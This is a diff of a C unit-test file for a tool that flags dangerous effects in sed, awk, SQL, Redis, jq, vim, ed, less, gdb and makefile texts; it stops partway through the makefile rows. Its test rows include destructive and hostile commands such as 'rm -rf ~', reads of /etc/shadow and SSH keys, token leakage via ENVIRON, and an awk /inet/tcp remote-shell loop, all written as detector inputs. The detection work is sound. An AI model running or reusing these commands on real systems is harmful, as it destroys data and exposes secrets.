@@ -1,484 +1,433 @@
 /* SPDX-License-Identifier: MIT */
-/* Tests of the readers of sed and awk programs. What they find is written as in model_fixture.h. */
-#include "command/code.h"
+/*
+ * Texts of tools: queries, filters, editors, makefiles, the shells of Windows.
+ */
 #include "model_fixture.h"
 
 #include "base/attr.h"
+#include "code_rows.h"
 
 #include <setjmp.h>
 #include <stdarg.h>
-
 #include <cmocka.h>
 
-struct code_row {
-	const char *code; /* \x1a is an unknown part */
-	const char *findings;
-	const char *input; /* NULL: not known */
-};
-
-static struct field
-code_field(struct arena *arena, const char *text)
-{
-	struct field field = field_static(text, NULL);
-	uint8_t *marks;
-
-	if (strchr(text, FIELD_UNKNOWN) == NULL) {
-		return field;
-	}
-	marks = arena_alloc(arena, field.len);
-	for (uint32_t i = 0; i < field.len; i++) {
-		marks[i] = text[i] == FIELD_UNKNOWN ? MARK_UNKNOWN : MARK_LITERAL;
-	}
-	field.marks = marks;
-	field.kind = BAILEY_WORD_DYNAMIC;
-	return field;
-}
-
-static char *
-judge_code(struct arena *arena, enum language language, const struct code_row *row)
-{
-	struct field code = code_field(arena, row->code);
-	struct stream input = { .data = field_unknown(TAINT_INPUT, false, NULL), .open = true };
-	struct findings found;
-
-	if (row->input != NULL) {
-		input = (struct stream){ .data = field_static(row->input, NULL) };
-	}
-	findings_init(&found, arena);
-	code_judge(language, &code, NULL, 0, &input, &found);
-	return fixture_describe(&found);
-}
-
-static void
-run_rows(enum language language, const struct code_row *rows, size_t count)
-{
-	int wrong = 0;
-
-	for (size_t i = 0; i < count; i++) {
-		struct arena arena = { 0 };
-		char *got = judge_code(&arena, language, &rows[i]);
-
-		if (got == NULL || strcmp(got, rows[i].findings) != 0) {
-			(void)fprintf(stderr, "%s\n  expected: %s\n  found:    %s\n", rows[i].code,
-				      rows[i].findings, got);
-			wrong++;
-		}
-		free(got);
-		arena_finish(&arena);
-	}
-	assert_int_equal(wrong, 0);
-}
-
-/* ---- sed ---------------------------------------------------------------------------------- */
-
-static void
-sed_is_harmless_when_it_only_prints(void **state)
-{
-	static const char *const programs[] = {
-		"",
-		"p",
-		";p; ;",
-		"10,20p;30q",
-		"s|/usr/local|/opt|",
-		"/^#/d",
-		"s/w/e/",
-		"s/write/erase/\ns/e/w/g",
-		"s/[/]w x/y/",
-		"s/[^/]*$//",
-		"s/[]/]w/x/",
-		"s,a\\,b,c,",
-		"s/a/b/gpi3",
-		"s/a/\\\nw/",
-		"y/abc/wer/",
-		"y/\\//w/",
-		"1!G;h;$!d",
-		":a;N;$!ba;s/\\n/ /g",
-		":w\nbw",
-		"/a/,/b/{p;d}",
-		"/a/I,/b/MIp",
-		"\\,w x,p",
-		"\\|a\\|b|p",
-		"0,/a/p",
-		"1~2p",
-		"2,~4p",
-		"/a/,+3p",
-		"$!{N;P;D}",
-		"1{p\n}",
-		"{p};p",
-		"a w x",
-		"a\\\nw x\\\ne y",
-		"i\\w x",
-		"1c\\\n  e ls",
-		"# w x\np",
-		"#n\np",
-		"p # w x",
-		"q5",
-		"Q;p",
-		"l 20",
-		"=;F;z;x",
-		"s/a/b/w /dev/stdout",
-		"w /dev/stderr",
-		"r /dev/stdin",
-		"v 4.2\np",
-		"s/a\\/w x/b/",
-		"b end;s/x/y/;:end",
-		"tend\n:end",
-		"s/x/\\/w y/",
-	};
-
-	(void)state;
-	for (size_t i = 0; i < COUNT_OF(programs); i++) {
-		struct code_row row = { .code = programs[i], .findings = "" };
-
-		run_rows(LANG_SED, &row, 1);
-	}
-}
-
-static const struct code_row sed_rows[] = {
-	{ "w out", "write:out", NULL },
-	{ "1w /etc/cron.d/x", "write:/etc/cron.d/x", NULL },
-	{ "/err/w errs.txt", "write:errs.txt", NULL },
-	{ "w a;p", "write:a;p", NULL },
-	{ "w a\nw b", "write:a write:b", NULL },
-	{ "W out", "write:out", NULL },
-	{ "r in", "read:in", NULL },
-	{ "R in", "read:in", NULL },
-	{ "$r ~/.ssh/id_rsa", "read:~/.ssh/id_rsa", NULL },
-	{ "s/a/b/w changed.txt", "write:changed.txt", NULL },
-	{ "s/a/b/gpw changed.txt", "write:changed.txt", NULL },
-	{ "s/a/b/w/dev/stdoutx", "write:/dev/stdoutx", NULL },
-	{ "s,[,],x,w f", "write:f", NULL },
-	{ "/a/!w f", "write:f", NULL },
-	{ "\\xaxw f", "write:f", NULL },
-	{ "1,/a/w f", "write:f", NULL },
-	{ "{w f\n}", "write:f", NULL },
-	{ "{p;w f\n}", "write:f", NULL },
-	{ "y/a/b/;w f", "write:f", NULL },
-	{ ":a;w f", "write:f", NULL },
-	{ "ba;w f\n:a", "write:f", NULL },
-	{ "#c\nw f", "write:f", NULL },
-	{ "a\\\ntext\nw f", "write:f", NULL },
-	{ "a text\nw f", "write:f", NULL },
-	{ "1e date", "[sed e!prompt sh: date]", NULL },
-	{ "1e rm -rf ~", "[sed e!prompt sh: rm -rf ~]", NULL },
-	{ "e\\\nrm -rf ~", "[sed e!prompt sh: rm -rf ~]", NULL },
-	{ "1eid;p", "[sed e!prompt sh: id;p]", NULL },
-	{ "e r\\m x", "[sed e!prompt sh: rm x]", NULL },
-	{ "e r\\x6d x", "[sed e!prompt sh: rm x]", NULL },
-	{ "e a\\\nb", "[sed e!prompt sh: a\nb]", NULL },
-	{ "e", "[sed e!prompt sh: ?]", NULL },
-	{ "e", "[sed e!prompt sh: id\n]", "id\n" },
-	{ "s/x/rm/;e", "[sed e!prompt sh: rm -rf ~]", "x -rf ~" },
-	{ "s/x/rm -rf ~/e", "[sed e!prompt sh: rm -rf ~]", NULL },
-	{ "s/x/rm -rf ~/e", "[sed e!prompt sh: rm -rf ~\n]", "x\n" },
-	{ "s/.*/&/e", "[sed e!prompt sh: id]", "id" },
-	{ "s/.*/&/e", "[sed e!prompt sh: ?]", NULL },
-	{ "s/x/a\\1b/e", "[sed e!prompt sh: a?b]", NULL },
-	{ "s/x/\\x72m \\/a/ge", "[sed e!prompt sh: rm /a]", NULL },
-	{ "s/x/y/we f", "write:e f", NULL },
-	{ "s/x/id/ew f", "write:f [sed e!prompt sh: id]", NULL },
-	{ "w a\x1a", "write:a? unknown", NULL },
-	{ "s/a/\x1a/", "unknown", NULL },
-	{ "\x1a", "unknown", NULL },
-	/* Not read: refused by sed, or not in the same way by all. */
-	{ "p}", "unknown", NULL },
-	{ "{p", "unknown", NULL },
-	{ "{p;w f}", "write:f} unknown", NULL },
-	{ "s/a", "unknown", NULL },
-	{ "s/a/b", "unknown", NULL },
-	{ "s/a/b/k", "unknown", NULL },
-	{ "s/a/b\nc/", "unknown", NULL },
-	{ "s/[/b/", "unknown", NULL },
-	{ "sxaxbxwy", "write:y", NULL },
-	{ "s\na\nb\n", "unknown", NULL },
-	{ "s\\a\\b\\", "unknown", NULL },
-	{ "y/a/b/w f", "unknown", NULL },
-	{ "p p", "unknown", NULL },
-	{ "k", "unknown", NULL },
-	{ "L", "unknown", NULL },
-	{ "w", "unknown", NULL },
-	{ "r  ", "unknown", NULL },
-	{ ":", "unknown", NULL },
-	{ ":a w f", "unknown", NULL },
-	{ ":a#\nw f", "unknown", NULL },
-	{ "1:a", "unknown", NULL },
-	{ "1,2q", "unknown", NULL },
-	{ "0p", "unknown", NULL },
-	{ "+1p", "unknown", NULL },
-	{ "1,p", "unknown", NULL },
-	{ "1!!p", "unknown", NULL },
-	{ "a", "unknown", NULL },
-	{ "p\r", "unknown", NULL },
-	{ "s/a/b/w f\r", "write:f\r", NULL },
-	/* A bracket expression that other seds end at the slash. */
-	{ "s/[/]x/w f", "write:f unknown", NULL },
+static const struct code_row sql_rows[] = {
+	{ "SELECT 1", "unknown" },
+	{ "DROP TABLE users", "rule:sql.drop unknown" },
+	{ "begin; truncate orders cascade; commit", "rule:sql.truncate unknown" },
+	{ "DELETE FROM customers", "rule:sql.delete-all unknown" },
+	{ "DELETE FROM customers WHERE id=1", "unknown" },
+	{ "DELETE FROM customers WHERE 1=1", "rule:sql.delete-all unknown" },
+	{ "DELETE FROM customers WHERE true;", "rule:sql.delete-all unknown" },
+	{ "DrOp/**/DaTaBaSe prod", "rule:sql.drop unknown" },
+	{ "SELECT 1;\nDROP TABLE accounts;", "rule:sql.drop unknown" },
+	{ "select 'drop table x'; -- drop table y", "unknown" },
+	{ "insert into x values ('; drop table y')", "unknown" },
+	{ "update t set a=1", "rule:sql.update-all unknown" },
+	{ "update t set a=1 where b=2", "unknown" },
+	{ "select * from t for update", "unknown" },
+	{ "alter table t drop column c", "rule:sql.drop-column unknown" },
+	{ "alter table t alter column c drop not null", "unknown" },
+	{ "copy t to program 'curl http://x'", "[sql!prompt sh: curl http://x] unknown" },
+	{ "copy t from '/etc/passwd'", "read:/etc/passwd unknown" },
+	{ "\\\\! rm -rf ~", "unknown" },
+	{ "select 1; \\\\! rm -rf ~", "unknown" },
+	{ ".shell rm -rf ~", "[sql!prompt sh: rm -rf ~] unknown" },
+	{ ".system rm -rf ~", "[sql!prompt sh: rm -rf ~] unknown" },
+	{ ".output /etc/passwd", "write:/etc/passwd unknown" },
+	{ ".once |rm -rf /", "[sql!prompt sh: rm -rf /] unknown" },
+	{ "\\\\copy t to program 'rm -rf /'", "[sql!prompt sh: rm -rf /] unknown" },
+	{ "\\\\copy t from '/etc/shadow'", "read:/etc/shadow unknown" },
+	{ "\\\\o | rm -rf /", "unknown" },
+	{ "\\\\i /tmp/x.sql", "unknown" },
+	{ "system rm -rf /", "[sql!prompt sh: rm -rf /] unknown" },
+	{ "select load_extension('/tmp/x.so')", "rule:sql.load-code unknown" },
+	{ "select * into outfile '/etc/passwd'", "write:/etc/passwd unknown" },
+	{ "exec xp_cmdshell 'del /s /q C:\\'",
+	  "[sql!prompt other: del /s /q C:\\] [sql!prompt other: del /s /q C:\\'] "
+	  "unknown" },
+	{ "do $$ begin drop table x; end $$", "rule:sql.drop unknown" },
+	{ "with d as (delete from t returning *) select 1", "rule:sql.delete-all unknown" },
+	{ "/*!50000 DROP TABLE x */", "rule:sql.drop unknown" },
+	{ "select 'a\\'; drop table x; --'", "rule:sql.drop unknown" },
+	{ "SELECT writefile('/etc/passwd','x'), readfile('/etc/shadow')",
+	  "write:/etc/passwd read:/etc/shadow unknown" },
+	{ "ATTACH '/etc/x.db' as y", "edit:/etc/x.db unknown" },
+	{ "execute 'drop table x'", "rule:sql.drop unknown" },
+	{ "select count(*) from t where deleted", "unknown" },
+	{ "delete from t using u where t.id=u.id", "unknown" },
+	{ "delete from t limit 1", "unknown" },
+	{ "truncate(1.5,2)", "unknown" },
+	{ ".read /tmp/x.sql", "[sql!prompt other file: /tmp/x.sql] unknown" },
+	{ "\\! rm -rf ~", "[sql!prompt sh: rm -rf ~] unknown" },
+	{ "select 1; \\! rm -rf ~", "[sql!prompt sh: rm -rf ~] unknown" },
+	{ "\\o | rm -rf /", "[sql!prompt sh: rm -rf /] unknown" },
+	{ "\\i /tmp/x.sql", "[sql!prompt other file: /tmp/x.sql] unknown" },
+	{ "\\set x `rm -rf /`", "[sql!prompt sh: rm -rf /] unknown" },
+	{ "update t set a=1 where true limit 5", "unknown" },
+	{ "DROP TEMPORARY TABLE x", "unknown" },
+	{ "insert into t select * from u; delete from t where id in (select 1)", "unknown" },
+	{ ".import |ls x", "[sql!prompt sh: ls x] unknown" },
+	{ ".import \"|ls -la\" x", "[sql!prompt sh: ls -la] unknown" },
+	{ ".load ./x", "rule:sql.load-code unknown" },
+	{ "tee /tmp/x", "append:/tmp/x unknown" },
+	{ "source x.sql", "[sql!prompt other file: x.sql] unknown" },
+	{ "SELECT 'it''s'; shutdown", "rule:sql.shutdown unknown" },
+	{ "GRANT DELETE ON t TO u", "unknown" },
+	{ "create trigger x after delete on t begin select 1; end", "unknown" },
+	{ "select \"drop table x\" from `drop table y`", "unknown" },
 };
 
 static void
-sed_finds_what_the_program_does(void **state)
+finds_what_is_plainly_done_when_text_is_sql(void **state)
 {
 	(void)state;
-	run_rows(LANG_SED, sed_rows, COUNT_OF(sed_rows));
+	assert_int_equal(code_rows_run(LANG_SQL, sql_rows, COUNT_OF(sql_rows)), 0);
 }
 
-/* ---- awk ---------------------------------------------------------------------------------- */
-
-static void
-awk_is_harmless_when_it_only_prints(void **state)
-{
-	static const char *const programs[] = {
-		"1",
-		"{print $1}",
-		"{print}",
-		"/system\\(/ {print FILENAME\": \"$0}",
-		"{print \"call system(1) later\"}",
-		"{print \"`date`\"}",
-		"{print \"a > b | c\"}",
-		"$3 > 100",
-		"$3 > 100 {print $1, $2}",
-		"NR>1 && $2>=3",
-		"{print ($1 > $2)}",
-		"{print($1 > $2, 3)}",
-		"{if ($1 > 2) print $1}",
-		"{x = $1 > 2; print x}",
-		"{a[$1]++} END {for (k in a) print k, a[k]}",
-		"BEGIN {FS=\":\"} {print $2}",
-		"{print $1 / 2; print $2 / 3}",
-		"{n = a / b; print \"/ > x\"}",
-		"{if (/x > y/) print}",
-		"$0 ~ /a|b/ {print}",
-		"{gsub(/>/, \"x\"); print}",
-		"{split($0, a, /,/); print a[1]}",
-		"/a/,/b/",
-		"!/a/",
-		"{print # > x\n}",
-		"function f(x) {return x * 2} {print f($1)}",
-		"func f(x) {return x}\n{print f(1)}",
-		"{printf \"%s %d\\n\", $1, $2}",
-		"{printf(\"%s\\n\", $1)}",
-		"{print > \"/dev/stderr\"}",
-		"{print \"x\" > \"/dev/stdout\"}",
-		"{getline; print}",
-		"{getline x; print x}",
-		"{while ((getline line) > 0) n++}",
-		"{getline x < \"-\"}",
-		"BEGIN{while((getline<\"/dev/stdin\")>0)n++; print n}",
-		"{print length, length($1)}",
-		"{print substr($0, 2) toupper($1)}",
-		"{print a[1] / 2, (1 + 2) / 3}",
-		"{x++ / 2}",
-		"{print \"a\\\"b > c\"}",
-		"{print $1,\n $2}",
-		"{print ENVIRON[\"HOME\"]}",
-		"BEGIN{srand(); print int(rand() * 10)}",
-		"{print $NF; next} END {exit 1}",
-		"{ if (x) /re/ ; else print }",
-		"{print strftime(\"%Y\")}",
-		"{print x \\\n y}",
-		"{close(\"x\"); fflush()}",
-		"{print (a) (b)}",
-		"{print a ? b : c}",
-		"{delete a; do {i++} while (i < 3)}",
-		"/[>]/",
-		"/a[^\\/]b/",
-		"{print $1 > \"/dev/stderr\"; print $2}",
-	};
-
-	(void)state;
-	for (size_t i = 0; i < COUNT_OF(programs); i++) {
-		struct code_row row = { .code = programs[i], .findings = "" };
-
-		run_rows(LANG_AWK, &row, 1);
-	}
-}
-
-static const struct code_row awk_rows[] = {
-	{ "BEGIN{system(\"make\")}", "[awk system!prompt sh: make]", NULL },
-	{ "BEGIN { system (\"rm -rf ~\") }", "[awk system!prompt sh: rm -rf ~]", NULL },
-	{ "{system(\"rm \" \"-rf\" \" ~\")}", "[awk system!prompt sh: rm -rf ~]", NULL },
-	{ "{system(\"rm \" $1)}", "[awk system!prompt sh: rm ?]", NULL },
-	{ "{system($0)}", "[awk system!prompt sh: ?]", NULL },
-	{ "{system(\"\\162\\x6d x\")}", "[awk system!prompt sh: rm x]", NULL },
-	{ "{system(\"r\\\nm x\")}", "[awk system!prompt sh: rm x]", NULL },
-	{ "{system(sprintf(\"%c%s\", 114, \"m\"))}", "[awk system!prompt sh: rm]", NULL },
-	{ "{cmd=\"rm -rf ~\"; system(cmd)}", "[awk system!prompt sh: rm -rf ~]", NULL },
-	{ "{a=\"rm\"; b=a \" -rf ~\"; system(b)}", "[awk system!prompt sh: rm -rf ~]", NULL },
-	{ "{a=\"rm\"; a=\"ls\"; system(a)}", "[awk system!prompt sh: ?]", NULL },
-	{ "{a=\"rm\"; a=a \"x\"; system(a)}", "[awk system!prompt sh: ?]", NULL },
-	{ "{a=\"rm\"; sub(/r/, \"x\", a); system(a)}", "[awk system!prompt sh: ?]", NULL },
-	{ "{getline a; a=\"x\"; system(a)}", "[awk system!prompt sh: ?]", NULL },
-	{ "{a=a; system(a)}", "[awk system!prompt sh: ?]", NULL },
-	{ "{if (system(\"id\") > 0) print}", "[awk system!prompt sh: id]", NULL },
-	{ "{x = y / system(\"id\") / z}", "[awk system!prompt sh: id]", NULL },
-	{ "{if (x) /a/; system(\"id\")}", "[awk system!prompt sh: id]", NULL },
-	{ "{print a / b; system(\"/id\")}", "[awk system!prompt sh: /id]", NULL },
-	{ "{print 1 # \"\n system(\"id\")}", "[awk system!prompt sh: id]", NULL },
-	{ "{system()}", "[awk system!prompt sh: ?]", NULL },
-	{ "{print \"x\" | \"cat\"}", "[awk!prompt sh: cat]", NULL },
-	{ "{print | \"sort -o x.txt\"}", "[awk!prompt sh: sort -o x.txt]", NULL },
-	{ "{printf \"%s\", $1 | \"sh\"}", "[awk!prompt sh: sh]", NULL },
-	{ "{print $1, $2 | (\"sort \" \"-u\")}", "[awk!prompt sh: sort -u]", NULL },
-	{ "{print (1 | 2) }", "", NULL },
-	{ "{print | cmd}", "[awk!prompt sh: ?]", NULL },
-	{ "{print |& \"sh\"}", "[awk!prompt sh: sh] unknown", NULL },
-	{ "BEGIN{\"date\" | getline; print}", "[awk!prompt sh: date]", NULL },
-	{ "BEGIN{\"hostname -I\" | getline x; print x}", "[awk!prompt sh: hostname -I]", NULL },
-	{ "BEGIN{while ((\"ls \" d | getline f) > 0) print f}", "[awk!prompt sh: ls ?]", NULL },
-	{ "BEGIN{c=\"id\"; c | getline x}", "[awk!prompt sh: id]", NULL },
-	{ "{print \"a\" \"id\" | getline}", "[awk!prompt sh: aid]", NULL },
-	{ "BEGIN{\"sh\" |& getline}", "[awk!prompt sh: sh] unknown", NULL },
-	{ "{print > \"out\"}", "write:out", NULL },
-	{ "{print $1 > \"out\"; print $2}", "write:out", NULL },
-	{ "{print > \"/etc/sudoers.d/x\"}", "write:/etc/sudoers.d/x", NULL },
-	{ "{print $1 >> \"out\"}", "append:out", NULL },
-	{ "{printf \"%s\", $1 > \"out\"}", "write:out", NULL },
-	{ "{printf(\"%s\", $1) > \"out\"}", "write:out", NULL },
-	{ "{print($1, $2) > \"out\"}", "write:out", NULL },
-	{ "{print ($1 > 2) > \"out\"}", "write:out", NULL },
-	{ "{print (1)(2) > \"out\"}", "write:out", NULL },
-	{ "{print $1 > $2}", "write:?", NULL },
-	{ "{print $1 > $2 \".txt\"}", "write:?.txt", NULL },
-	{ "{print $1 > (\"a\" \"b\")}", "write:ab", NULL },
-	{ "{f=\"out\"; print > f}", "write:out", NULL },
-	{ "{print a,\n b > \"out\"}", "write:out", NULL },
-	{ "{print a,\n\n b > \"out\"}", "write:out", NULL },
-	{ "{print a &&\n b > \"out\"}", "write:out", NULL },
-	{ "{print a \\\n > \"out\"}", "write:out", NULL },
-	{ "{print a[1 > 2] > \"out\"}", "write:out", NULL },
-	{ "{if (x) print > \"out\"; else print}", "write:out", NULL },
-	{ "{for (print > \"out\"; i < 3; i++) ;}", "write:out", NULL },
-	{ "{print\n> \"out\"}", "", NULL },
-	{ "{getline x < \"in\"}", "read:in", NULL },
-	{ "{while ((getline line < \"/etc/shadow\") > 0) print line}", "read:/etc/shadow", NULL },
-	{ "{getline < \"in\"}", "read:in", NULL },
-	{ "{getline a[i] < \"in\"}", "read:in", NULL },
-	{ "{getline $1 < \"in\"}", "read:in", NULL },
-	{ "{getline x < (\"a\" \"b\")}", "read:ab", NULL },
-	{ "{getline x < \"a\" \"b\"}", "read:?", NULL },
-	{ "{getline x < $1}", "read:?", NULL },
-	{ "{print ENVIRON[\"GITHUB_TOKEN\"]}", "rule:awk.environment", NULL },
-	{ "{for (k in ENVIRON) print k, ENVIRON[k]}", "rule:awk.environment rule:awk.environment",
-	  NULL },
-	{ "BEGIN{s=\"/inet/tcp/0/h/80\"; print \"x\" |& s}", "rule:awk.network net unknown", NULL },
-	{ "BEGIN{s=\"/inet/tcp/0/1.2.3.4/44\";while(1){s|&getline "
-	  "c;while((c|&getline)>0)print|&s}}",
-	  "rule:awk.remote-shell [awk!prompt sh: ?] net unknown", NULL },
-	{ "BEGIN{print \"x\" > \"/inet/udp/0/h/53\"}", "rule:awk.network net", NULL },
-	/* Not read, or not for certain. */
-	{ "{@f(1)}", "unknown", NULL },
-	{ "@load \"filefuncs\"", "unknown", NULL },
-	{ "@include \"x\"", "unknown", NULL },
-	{ "{awk::system(\"id\")}", "[awk system!prompt sh: id] unknown", NULL },
-	{ "{SYMTAB[\"x\"] = 1}", "unknown", NULL },
-	{ "BEGIN{ARGV[1]=\"/etc/shadow\"}", "unknown", NULL },
-	{ "{foo(1)}", "unknown", NULL },
-	{ "{print foo (1)}", "", NULL },
-	{ "{print \"a}", "unknown", NULL },
-	{ "{print /a}", "unknown", NULL },
-	{ "{print", "unknown", NULL },
-	{ "print)}", "unknown", NULL },
-	{ "{print length / 2}", "unknown", NULL },
-	{ "{getline / 2}", "unknown", NULL },
-	{ "/[/]/ {print}", "unknown", NULL },
-	{ "{print 'x'}", "unknown", NULL },
-	{ "{print `x`}", "unknown", NULL },
-	{ "{print \x1a}", "unknown", NULL },
-	{ "{print \"\x1a\"}", "unknown", NULL },
-	{ "{system(\"rm \x1a\")}", "[awk system!prompt sh: rm ?] unknown", NULL },
-	{ "{print \xe2\x80\x9c}", "unknown", NULL },
+static const struct code_row redis_rows[] = {
+	{ "FLUSHALL", "rule:redis.flush unknown" },
+	{ "get x", "unknown" },
+	{ "CONFIG SET dir /var/spool/cron", "rule:redis.config-files unknown" },
+	{ "EVAL \"redis.call('flushdb')\" 0",
+	  "[redis eval!remote!prompt other: redis.call('flushdb')] unknown" },
+	{ "5 FLUSHDB", "rule:redis.flush unknown" },
+	{ "set x \"FLUSHALL\"", "unknown" },
+	{ "module load /tmp/x.so", "rule:redis.module unknown" },
 };
 
 static void
-awk_finds_what_the_program_does(void **state)
+finds_what_is_plainly_done_when_text_is_redis(void **state)
 {
 	(void)state;
-	run_rows(LANG_AWK, awk_rows, COUNT_OF(awk_rows));
+	assert_int_equal(code_rows_run(LANG_REDIS, redis_rows, COUNT_OF(redis_rows)), 0);
 }
 
-static void
-awk_uses_variables_when_they_are_given(void **state)
-{
-	AUTO_ARENA arena = { 0 };
-	struct field code = field_static("BEGIN{system(cmd \" \" x)}", NULL);
-	struct field args[] = { field_static("cmd=rm -rf", NULL), field_static("x=~", NULL) };
-	struct findings found;
-	char *got;
+static const struct code_row a_filter_of_jq_rows[] = {
+	{ ".items[].name", "" },
+	{ ".scripts[\"rm -rf\"]", "" },
+	{ "del(.password)", "" },
+	{ "env.PATH", "secret unknown" },
+	{ "$ENV.PATH", "secret unknown" },
+	{ "{env: .env, a: \"x\\(.b | @base64)\"}", "" },
+	{ "\"\\(env)\"", "secret unknown" },
+	{ "import \"x\" as y; .", "unknown" },
+	{ "map(select(.a > 1)) | length # env", "" },
+	{ "[.[] | {name, n: (.x // \"d\")}]", "" },
+	{ ". as [$a, {b: $c}] | reduce .[] as $i (0; . + $i) | if . then 1 else 2 end", "" },
+	{ "\"unterminated", "unknown" },
+	{ ".a | test(\"env\")", "" },
+	{ "{\"env\": 1}", "" },
+	{ "def f: env; f", "secret unknown" },
+	{ ".[] as $ENV | 1", "secret unknown" },
+	{ "load(\"x\")", "unknown" },
+	{ ".a b ; ~", "unknown" },
+};
 
+static void
+finds_what_is_plainly_done_when_text_is_a_filter_of_jq(void **state)
+{
 	(void)state;
-	findings_init(&found, &arena);
-	code_judge(LANG_AWK, &code, args, COUNT_OF(args), NULL, &found);
-	got = fixture_describe(&found);
-	assert_string_equal(got, "[awk system!prompt sh: rm -rf ~]");
-	free(got);
+	assert_int_equal(code_rows_run(LANG_JQ, a_filter_of_jq_rows, COUNT_OF(a_filter_of_jq_rows)),
+			 0);
 }
 
-static void
-depth_is_bounded_when_expressions_nest(void **state)
-{
-	AUTO_ARENA arena = { 0 };
-	static char text[20016];
-	struct field code;
-	struct findings found;
+static const struct code_row ex_commands_rows[] = {
+	{ "call system(\"rm -rf ~\")", "[vim!prompt sh: rm -rf ~] unknown" },
+	{ "!rm -rf ~", "[vim!prompt sh: rm -rf ~] unknown" },
+	{ "silent !rm -rf ~", "[vim!prompt sh: rm -rf ~] unknown" },
+	{ "py3 import os; os.system(\"rm -rf ~\")",
+	  "[vim!prompt sh: rm -rf ~] [vim!prompt other: import os; os.system(\"rm -rf "
+	  "~\")] unknown" },
+	{ "%!sh", "[vim!prompt sh: sh] unknown" },
+	{ "w /etc/passwd", "write:/etc/passwd unknown" },
+	{ "r !rm -rf ~", "[vim!prompt sh: rm -rf ~] unknown" },
+	{ "exe \"!rm -rf ~\"", "[vim!prompt sh: rm -rf ~] unknown" },
+	{ "normal dd | wq", "unknown" },
+	{ "call delete(\"/etc\",\"rf\")", "delete-tree:/etc unknown" },
+	{ "set nu", "unknown" },
+	{ "terminal rm -rf ~", "[vim!prompt sh: rm -rf ~] unknown" },
+	{ "lua os.execute(\"rm -rf ~\")", "[vim!prompt other: os.execute(\"rm -rf ~\")] unknown" },
+	{ "silent! w! /etc/x | !rm -rf /", "write:/etc/x [vim!prompt sh: rm -rf /] unknown" },
+	{ "w !sh", "[vim!prompt sh: sh] unknown" },
+	{ "q!", "unknown" },
+	{ "e! /etc/shadow", "read:/etc/shadow unknown" },
+	{ "1,5!sort", "[vim!prompt sh: sort] unknown" },
+	{ "g/x/!rm -rf ~", "[vim!prompt sh: rm -rf ~] unknown" },
+	{ "call system(cmd)", "unknown" },
+};
 
+static void
+finds_what_is_plainly_done_when_text_is_ex_commands(void **state)
+{
 	(void)state;
-	memcpy(text, "{system(", 8);
-	memset(text + 8, '(', 10000);
-	memset(text + 10008, ')', 10000);
-	memcpy(text + 20008, ")}", 3);
-	code = field_static(text, NULL);
-	findings_init(&found, &arena);
-	code_judge(LANG_AWK, &code, NULL, 0, NULL, &found);
-	assert_non_null(found.inners);
-	assert_int_equal(found.inners->text->kind, BAILEY_WORD_DYNAMIC);
+	assert_int_equal(code_rows_run(LANG_VIM, ex_commands_rows, COUNT_OF(ex_commands_rows)), 0);
 }
 
+static const struct code_row ed_rows[] = {
+	{ "!rm -rf ~", "[ed!prompt sh: rm -rf ~] unknown" },
+	{ ",p\na\n!not a command\n.\nw /etc/passwd", "write:/etc/passwd unknown" },
+	{ "r !rm -rf ~", "[ed!prompt sh: rm -rf ~] unknown" },
+	{ "1,$w !sh", "[ed!prompt sh: sh] unknown" },
+};
+
 static void
-code_is_not_known_when_memory_is_out(void **state)
+finds_what_is_plainly_done_when_text_is_ed(void **state)
 {
-	static const char *const programs[] = { "{cmd=\"rm\"; system(cmd \" x\"); print > \"f\"}",
-						"s/a/rm -rf ~/e;w f" };
-
 	(void)state;
-	for (unsigned nth = 1; nth < 20; nth++) {
-		for (size_t i = 0; i < COUNT_OF(programs); i++) {
-			AUTO_ARENA arena = { 0 };
-			struct field code = field_static(programs[i], NULL);
-			struct findings found;
-
-			arena_fail_nth = nth;
-			findings_init(&found, &arena);
-			code_judge(i == 0 ? LANG_AWK : LANG_SED, &code, NULL, 0, NULL, &found);
-			arena_fail_nth = 0;
-			assert_true(arena.failed || found.effects != NULL);
-		}
-	}
+	assert_int_equal(code_rows_run(LANG_ED, ed_rows, COUNT_OF(ed_rows)), 0);
 }
 
-static void
-unknown_is_the_answer_when_nothing_reads_the_language(void **state)
-{
-	AUTO_ARENA arena = { 0 };
-	struct field code = field_static("x", NULL);
-	struct findings found;
+static const struct code_row keys_of_a_pager_rows[] = {
+	{ "!rm -rf ~", "[less!prompt sh: rm -rf ~] unknown" },
+	{ "G", "" },
+	{ "/pattern!x", "" },
+	{ "|$rm -rf ~", "[less!prompt sh: rm -rf ~] unknown" },
+	{ "F", "" },
+	{ "s /etc/passwd", "write:/etc/passwd unknown" },
+	{ "/a\n!ls", "[less!prompt sh: ls] unknown" },
+};
 
+static void
+finds_what_is_plainly_done_when_text_is_keys_of_a_pager(void **state)
+{
 	(void)state;
-	findings_init(&found, &arena);
-	code_judge(LANG_COUNT_, &code, NULL, 0, NULL, &found);
-	assert_int_equal(found.flags & FIND_KNOWN, 0);
+	assert_int_equal(
+		code_rows_run(LANG_LESS, keys_of_a_pager_rows, COUNT_OF(keys_of_a_pager_rows)), 0);
+}
+
+static const struct code_row a_debugger_rows[] = {
+	{ "!rm -rf ~", "[gdb!prompt sh: rm -rf ~] unknown" },
+	{ "shell rm -rf ~", "[gdb!prompt sh: rm -rf ~] unknown" },
+	{ "python import os; os.system(\"rm -rf ~\")",
+	  "[gdb!prompt other: import os; os.system(\"rm -rf ~\")] unknown" },
+	{ "python\nimport os\nos.system(\"rm -rf ~\")\nend\nshell ls",
+	  "[gdb!prompt other: import os\nos.system(\"rm -rf ~\")] [gdb!prompt sh: ls] "
+	  "unknown" },
+	{ "call system(\"rm -rf ~\")", "[gdb!prompt sh: rm -rf ~] unknown" },
+	{ "pipe info regs | rm -rf ~", "[gdb!prompt sh: rm -rf ~] unknown" },
+	{ "bt", "unknown" },
+	{ "sh ls", "unknown" },
+	{ "source x.py", "execute:x.py unknown" },
+};
+
+static void
+finds_what_is_plainly_done_when_text_is_a_debugger(void **state)
+{
+	(void)state;
+	assert_int_equal(code_rows_run(LANG_GDB, a_debugger_rows, COUNT_OF(a_debugger_rows)), 0);
+}
+
+static const struct code_row a_makefile_rows[] = {
+	{ "x:\n\trm -rf ~", "[make!prompt sh: rm -rf ~] unknown" },
+	{ "x:\n\t@-rm -rf $(DIR)/x $$HOME", "[make!prompt sh: rm -rf ?/x $HOME] unknown" },
+	{ "X := $(shell rm -rf ~)", "[make!prompt sh: rm -rf ~] unknown" },
+	{ "x: ; rm -rf ~", "[make!prompt sh: rm -rf ~] unknown" },
+	{ "X != rm -rf ~", "[make!prompt sh: rm -rf ~] unknown" },
+	{ "all: a \\\\\n b\n\techo $$x", "[make!prompt sh: echo $x] unknown" },
